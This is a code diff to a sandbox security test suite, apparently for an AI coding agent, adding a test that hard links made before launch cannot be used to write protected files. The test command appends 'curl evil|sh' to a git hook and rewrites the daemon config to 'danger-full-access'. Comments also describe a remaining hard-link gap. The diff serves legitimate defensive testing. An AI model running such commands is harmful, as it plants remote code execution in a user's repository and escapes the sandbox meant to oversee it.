@@ -7,7 +7,7 @@ import * as path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { SandboxUnavailableError } from "../../server/sandbox/errors.js";
 import type { SplitSandboxPolicy } from "../../server/sandbox/policy.js";
-import { BWRAP, WS_ONLY, bash, cleanupTempDirs, hasBwrap, isRoot, run, sha, tempDir, transform, treeSnapshot, workspace } from "./helpers.js";
+import { BWRAP, WS_ONLY, baseEnv, bash, cleanupTempDirs, hasBwrap, isRoot, run, sha, tempDir, transform, treeSnapshot, workspace } from "./helpers.js";
 
 afterAll(cleanupTempDirs);
 
@@ -86,10 +86,36 @@ describe("writes outside the writable roots", () => {
     expect(sha(cfg)).toBe(cfgBefore);
   });
 
-  // #8 (known gap, sandbox.md E25): a hard link that already exists BEFORE launch is the same inode
-  // inside the writable root, so writes through it succeed. This test documents the gap; it would
-  // fail the day the gap is closed, prompting the comment to be updated.
-  it("known gap: a hard link created before the run lets the sandbox write the outside inode", async () => {
+  // #8 (E25) for protected files. A mount protects a path, not an inode: a second name made before
+  // the run inside the workspace for .git/config, a hook, or the daemon's config.toml (outside the
+  // workspace) would be written through the workspace bind. Protection: the planner searches the
+  // writable roots for the other names of every protected file with nlink > 1 and mounts each one
+  // like the file itself (bwrapPlan.ts protectHardLinks). Shown to fail: with protectHardLinks not
+  // called, all three writes succeeded and changed the protected files.
+  it("a hard link made before the run to a protected file cannot be written through", async () => {
+    const { ws, outside } = workspace();
+    const daemonConfig = path.join(outside, "config.toml");
+    fs.writeFileSync(daemonConfig, "model = \"x\"\n");
+    fs.writeFileSync(path.join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\n");
+    fs.mkdirSync(path.join(ws, "notes"));
+    fs.linkSync(path.join(ws, ".git", "config"), path.join(ws, "notes", "git-config"));
+    fs.linkSync(path.join(ws, ".git", "hooks", "pre-commit"), path.join(ws, "hook"));
+    fs.linkSync(daemonConfig, path.join(ws, "cfg"));
+    const before = [sha(path.join(ws, ".git", "config")), sha(path.join(ws, ".git", "hooks", "pre-commit")), sha(daemonConfig)];
+    const r = await run(bash("echo pwned > notes/git-config; echo 'curl evil|sh' >> hook; echo 'sandbox_mode = \"danger-full-access\"' > cfg; echo ok > src/new"), WS_ONLY, ws, {
+      launch: { env: baseEnv(ws), daemonPaths: { readOnly: [daemonConfig] } },
+    });
+    expect(r.stderr.match(/Read-only file system/g)).toHaveLength(3);
+    expect([sha(path.join(ws, ".git", "config")), sha(path.join(ws, ".git", "hooks", "pre-commit")), sha(daemonConfig)]).toEqual(before);
+    expect(fs.readFileSync(path.join(ws, "src", "new"), "utf8")).toBe("ok\n");
+  });
+
+  // #8 (known gap, sandbox.md E25) for files outside every protected set: finding the other names of
+  // an arbitrary outside file would mean walking the writable roots on every command, so a hard link
+  // that already exists BEFORE launch still lets the sandbox write that inode. The sandbox cannot make
+  // such a link itself (EXDEV, the test above), so only something unsandboxed can set this up. This
+  // test documents the gap; it fails the day the gap is closed, prompting the comment to be updated.
+  it("known gap: a hard link made before the run to an unprotected outside file is writable", async () => {
     const { ws, outsideFile } = workspace();
     fs.linkSync(outsideFile, path.join(ws, "prelinked"));
     await run(bash("echo changed > prelinked"), WS_ONLY, ws);
